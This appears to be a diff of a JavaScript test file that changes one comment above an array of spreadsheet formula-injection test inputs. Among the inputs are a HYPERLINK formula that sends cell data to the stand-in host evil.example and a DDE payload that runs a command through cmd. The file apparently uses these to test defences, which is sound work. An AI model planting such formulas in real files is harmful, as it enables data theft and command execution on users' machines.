@@ -136,7 +136,7 @@ test('a personal address opens a closed league, keeps nothing, and is nothing on
   expect(log.join('\n')).not.toContain(secret);
 });
 
-/** What a spreadsheet would compute, fetch or run, as names. */
+/** Names that a spreadsheet would compute, fetch or run. */
 const formulas = [
   '=1+1', '=HYPERLINK("https://evil.example?"&A1,"Click")', "=cmd|' /C calc'!A0", '+1+1', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1',
   '\n=1+1', ' =1+1', '"=1+1', "'=1+1", '＝1+1', '＋1', '－1', '＠SUM(A1)', 'a\n=1+1', 'a;=1+1', 'a\t=1+1', '","=1+1', ';=1+1',
